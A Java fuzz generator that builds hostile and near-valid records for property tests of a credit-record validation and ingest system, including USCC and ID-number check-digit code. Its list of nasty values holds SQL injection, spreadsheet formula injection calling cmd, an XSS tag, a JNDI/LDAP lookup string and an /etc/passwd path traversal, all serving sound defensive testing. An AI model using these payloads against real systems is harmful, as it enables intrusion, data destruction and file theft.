package org.creditgate.model.samples;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Seeded generator of hostile and near-valid records for property tests of validation and ingest: a sample record of
 * a random dataset with a few items replaced by arbitrary text (control characters, lone surrogates, mojibake,
 * SQL-looking text, formula prefixes, huge strings), near-valid USCCs and ID numbers (one character off, a valid
 * check digit on a wrong layout), odd dates, out-of-range numbers, or values of the wrong JSON type.
 *
 * <p>Deterministic: the same seed gives the same records, so a failure is reproduced with its seed (property
 * {@code fuzz.seed}) and index. No shrinking; the failing record is printed whole instead.
 */
public final class FuzzRecords {

    /** The seed CI runs with; {@code -Dfuzz.seed=…} explores others locally. */
    public static final long DEFAULT_SEED = 20261130L;

    static final List<String> DATASETS = List.of("PENALTY", "LICENSE", "LIST", "DISHONEST_EXECUTEE", "COMMITMENT",
            "REPAIR", "OBJECTION", "SHIELD", "JOINT_FEEDBACK");
    private static final String USCC_CHARSET = "0123456789ABCDEFGHJKLMNPQRTUWXY";
    private static final int[] USCC_WEIGHTS = {1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28};
    private static final int[] ID_WEIGHTS = {7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2};
    private static final List<String> NASTY = List.of(
            "'; DROP TABLE record_version; --", "1' OR '1'='1", "\" OR 1=1 --", "Robert'); DELETE FROM rejection;--",
            "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "\u0000", "\u0000\u0001\u0002\u001b[31m", "\r\n\t",
            "\u202e\u0645\u0631\u062d\u0628\u0627", "\ufeff", "\ud800", "\udfff\ud800", "锘挎", "鍥藉", "ï»¿", "Ã¤Ã¶Ã¼",
            "\u3000\u3000", "ＡＢＣ１２３", "<script>alert(1)</script>", "${jndi:ldap://x.invalid/a}", "%s%n%x",
            "../../etc/passwd", "null", "NaN", "-0", "1e999999999", "1e-999999999", "９１３５０１００Ｍ０００１００Ｙ４３",
            "0", "", " ", "2026-02-30", "20261301", "9999-12-31", "0000-00-00", "2026/1/5", "1970-01-01T00:00:00Z",
            "其他-", "其他", "罚款;;;;", "罚款；没收违法所得", "🀄️😀", "\u200b", "A".repeat(5000), "中".repeat(4001));

    private final Random random;

    public FuzzRecords(long seed) {
        this.random = new Random(seed);
    }

    /** The seed from {@code -Dfuzz.seed}, else {@link #DEFAULT_SEED}. */
    public static long seed() {
        return Long.getLong("fuzz.seed", DEFAULT_SEED);
    }

    /** A sample record of a random dataset with up to four items mutated (sometimes none: a valid record). */
    public ObjectNode next() {
        String dataset = DATASETS.get(random.nextInt(DATASETS.size()));
        ObjectNode r = SampleRecords.load(dataset);
        if (dataset.equals("PENALTY") || dataset.equals("LICENSE")) {
            // a fresh business key most of the time, so accepted records are new records
            String docKey = dataset.equals("PENALTY") ? "CF_WSH" : "XK_WSH";
            if (r.has(docKey) && random.nextInt(4) > 0) {
                r.put(docKey, r.get(docKey).asText() + "-" + random.nextInt(1_000_000));
            }
        }
        int mutations = random.nextInt(5);
        List<String> keys = new ArrayList<>();
        r.fieldNames().forEachRemaining(keys::add);
        for (int i = 0; i < mutations; i++) {
            if (random.nextInt(10) == 0) {
                r.set(randomKey(), value("any"));
            } else {
                String key = keys.get(random.nextInt(keys.size()));
                if (random.nextInt(8) == 0) {
                    r.remove(key);
                } else {
                    r.set(key, value(key));
                }
            }
        }
        return r;
    }

    private String randomKey() {
        return switch (random.nextInt(4)) {
            case 0 -> "dataset";
            case 1 -> "op";
            case 2 -> "version";
            default -> "recordId";
        };
    }

    /** A hostile or near-valid value for the item {@code key}. */
    JsonNode value(String key) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        String k = key.toLowerCase();
        int pick = random.nextInt(12);
        if (pick == 0) {
            return wrongType();
        }
        if ((k.contains("uscc") || k.contains("shxym") || k.endsWith("dm")) && pick < 8) {
            return f.textNode(nearUscc());
        }
        if ((k.contains("zjhm") || k.equals("idno") || k.contains("idno")) && pick < 8) {
            return f.textNode(nearId());
        }
        if ((k.contains("rq") || k.contains("date") || k.endsWith("on") || k.contains("yxq")) && pick < 7) {
            return f.textNode(date());
        }
        if ((k.contains("fk") || k.contains("amount") || k.contains("wfff")) && pick < 7) {
            return number();
        }
        return f.textNode(text());
    }

    private JsonNode wrongType() {
        JsonNodeFactory f = JsonNodeFactory.instance;
        return switch (random.nextInt(7)) {
            case 0 -> f.nullNode();
            case 1 -> f.booleanNode(random.nextBoolean());
            case 2 -> f.arrayNode().add(text()).add(random.nextInt());
            case 3 -> f.objectNode().put("a", text());
            case 4 -> f.numberNode(random.nextLong());
            case 5 -> f.numberNode(new BigDecimal(random.nextBoolean() ? "1e999999999" : "-1e-999999999"));
            default -> f.numberNode(random.nextDouble() * 1e18);
        };
    }

    private JsonNode number() {
        JsonNodeFactory f = JsonNodeFactory.instance;
        return switch (random.nextInt(8)) {
            case 0 -> f.numberNode(new BigDecimal("1e" + (random.nextBoolean() ? "" : "-") + random.nextInt(Integer.MAX_VALUE)));
            case 1 -> f.numberNode(new BigDecimal("9999999999999.9999999"));
            case 2 -> f.textNode("-" + random.nextInt(100));
            case 3 -> f.textNode(random.nextInt(100_000) + "元");
            case 4 -> f.textNode("0.0000001");
            case 5 -> f.numberNode(random.nextInt(1000) / 100.0);
            case 6 -> f.textNode("1,000.5");
            default -> f.textNode(String.valueOf(random.nextInt(100)));
        };
    }

    private String text() {
        return switch (random.nextInt(5)) {
            case 0, 1 -> NASTY.get(random.nextInt(NASTY.size()));
            case 2 -> randomUnicode(random.nextInt(40));
            case 3 -> NASTY.get(random.nextInt(NASTY.size())) + randomUnicode(random.nextInt(8));
            default -> randomUnicode(1 + random.nextInt(300)).repeat(1 + random.nextInt(20));
        };
    }

    private String randomUnicode(int n) {
        StringBuilder b = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            int cp = switch (random.nextInt(6)) {
                case 0 -> random.nextInt(0x20);
                case 1 -> 0x20 + random.nextInt(0x5f);
                case 2 -> 0x4e00 + random.nextInt(0x51a5);
                case 3 -> 0xff01 + random.nextInt(0x5e);
                case 4 -> 0xd800 + random.nextInt(0x800);
                default -> random.nextInt(0x110000);
            };
            if (Character.isSupplementaryCodePoint(cp)) {
                b.appendCodePoint(cp);
            } else {
                b.append((char) cp);
            }
        }
        return b.toString();
    }

    /** A valid USCC, or one a single step away from valid (check digit, length, charset, authority, case). */
    String nearUscc() {
        String body = "91350100" + "M" + String.format("%08d", random.nextInt(100_000_000));
        if (random.nextInt(6) == 0) {
            body = (char) USCC_CHARSET.charAt(random.nextInt(31)) + body.substring(1);
        }
        String valid = body + usccCheck(body);
        return switch (random.nextInt(8)) {
            case 0 -> valid.substring(0, 17);
            case 1 -> valid.substring(0, 17) + USCC_CHARSET.charAt((USCC_CHARSET.indexOf(valid.charAt(17)) + 1) % 31);
            case 2 -> valid.replace('M', 'I');
            case 3 -> valid.toLowerCase();
            case 4 -> " " + valid + "\u3000";
            case 5 -> "00000000000000000X";
            case 6 -> valid + "0";
            default -> valid;
        };
    }

    /** A valid 公民身份号码, or one a single step away (check, birth date, region, 15 digits, lower-case x). */
    String nearId() {
        int year = 1900 + random.nextInt(140);
        String birth = LocalDate.of(year, 1, 1).plusDays(random.nextInt(366)).toString().replace("-", "");
        String region = random.nextInt(10) == 0 ? "990101" : "350102";
        String body = region + birth + String.format("%03d", random.nextInt(1000));
        String valid = body + idCheck(body);
        return switch (random.nextInt(7)) {
            case 0 -> valid.substring(0, 17) + (valid.charAt(17) == '0' ? '1' : '0');
            case 1 -> valid.substring(0, 6) + valid.substring(8, 17);
            case 2 -> valid.toLowerCase();
            case 3 -> region + "20261301" + "0011";
            default -> valid;
        };
    }

    private String date() {
        LocalDate d = LocalDate.of(2026, 11, 20).minusDays(random.nextInt(4000) - 200);
        return switch (random.nextInt(7)) {
            case 0 -> d.toString().replace("-", "/");
            case 1 -> d.toString().replace("-", "");
            case 2 -> d.getYear() + "-" + d.getMonthValue() + "-" + d.getDayOfMonth();
            case 3 -> random.nextBoolean() ? "2026-02-30" : "+999999999-12-31";
            case 4 -> "2099-12-31";
            default -> d.toString();
        };
    }

    public static char usccCheck(String body17) {
        int sum = 0;
        for (int i = 0; i < 17; i++) {
            sum += USCC_CHARSET.indexOf(body17.charAt(i)) * USCC_WEIGHTS[i];
        }
        int c = 31 - sum % 31;
        return USCC_CHARSET.charAt(c == 31 ? 0 : c);
    }

    public static char idCheck(String body17) {
        int sum = 0;
        for (int i = 0; i < 17; i++) {
            sum += (body17.charAt(i) - '0') * ID_WEIGHTS[i];
        }
        return "10X98765432".charAt(sum % 11);
    }
}
